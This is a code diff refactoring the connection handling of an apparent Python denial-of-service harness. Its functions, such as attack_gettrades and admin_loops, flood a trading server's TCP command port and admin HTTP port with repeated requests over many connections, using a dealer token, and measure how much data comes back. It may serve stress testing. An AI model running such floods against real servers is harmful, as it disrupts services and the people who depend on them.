@@ -613,32 +613,39 @@ async def attack_gettrades(cfg: dict, st: Stats) -> None:
     line = (b'{"command":"GetTrades","extID":"G","data":{"login":%d},"__token":"%s"}\r\n'
             % (cfg["big_login"], cfg["dealer_token"].encode()))
 
-    async def conn() -> None:
+    async def session(s) -> None:
+        buf = b""
         while True:
-            try:
-                s = await raw_connect(cfg["host"], cfg["tcp_port"])
-            except OSError:
-                st.add("connect_failed")
-                await trio.sleep(0.5)
-                continue
-            buf = b""
-            try:
-                while True:
-                    await s.send_all(line)
-                    reply, buf = await read_line(s, buf)
-                    if reply is None:
-                        break
-                    st.add("answers_200" if reply.startswith(b'{"extID":"G","status":200') else "answers_other")
-                    st.add("answer_MB", len(reply) / 1e6)
-            except (trio.BrokenResourceError, trio.ClosedResourceError, OSError):
-                pass
-            st.add("closed_by_server")
-            await s.aclose()
-            await trio.sleep(0.5)
+            await s.send_all(line)
+            reply, buf = await read_line(s, buf)
+            if reply is None:
+                return
+            st.add("answers_200" if reply.startswith(b'{"extID":"G","status":200') else "answers_other")
+            st.add("answer_MB", len(reply) / 1e6)
 
     async with trio.open_nursery() as nursery:
         for _ in range(cfg["conns"]):
-            nursery.start_soon(conn)
+            nursery.start_soon(reconnecting, cfg, st, cfg["tcp_port"], session)
+
+
+async def reconnecting(cfg: dict, st: Stats, port: int, session) -> None:
+    """``session(stream)`` on a connection to ``port``, again on a new one (0.5 s later) whenever it ends."""
+    import trio
+
+    while True:
+        try:
+            s = await raw_connect(cfg["host"], port)
+        except OSError:
+            st.add("connect_failed")
+            await trio.sleep(0.5)
+            continue
+        try:
+            await session(s)
+        except (trio.BrokenResourceError, trio.ClosedResourceError, OSError):
+            pass
+        st.add("closed_by_server")
+        await s.aclose()
+        await trio.sleep(0.5)
 
 
 def h2_preface(streams: int) -> bytes:
@@ -728,33 +735,23 @@ async def admin_loops(cfg: dict, st: Stats, next_request) -> None:
     ``i``'s ``n``-th request; answers counted by status (reconnects when closed)."""
     import trio
 
-    async def conn(i: int) -> None:
-        n, body = 0, b""
-        while True:
-            try:
-                s = await raw_connect(cfg["host"], cfg["admin_port"])
-            except OSError:
-                st.add("connect_failed")
-                await trio.sleep(0.5)
-                continue
+    def loop(i: int):
+        state = [0, b""]  # requests answered on connection i, and the last answer's body (across reconnects)
+
+        async def session(s) -> None:
             buf = b""
-            try:
-                while True:
-                    status, body, buf = await http_exchange(s, next_request(i, n, body), buf)
-                    if status is None:
-                        break
-                    n += 1
-                    st.add(f"answer_{status}")
-                    st.add("answer_MB", len(body) / 1e6)
-            except (trio.BrokenResourceError, trio.ClosedResourceError, OSError):
-                pass
-            st.add("closed_by_server")
-            await s.aclose()
-            await trio.sleep(0.5)
+            while True:
+                status, state[1], buf = await http_exchange(s, next_request(i, *state), buf)
+                if status is None:
+                    return
+                state[0] += 1
+                st.add(f"answer_{status}")
+                st.add("answer_MB", len(state[1]) / 1e6)
+        return session
 
     async with trio.open_nursery() as nursery:
         for i in range(cfg["conns"]):
-            nursery.start_soon(conn, i)
+            nursery.start_soon(reconnecting, cfg, st, cfg["admin_port"], loop(i))
 
 
 async def attack_metrics(cfg: dict, st: Stats) -> None:
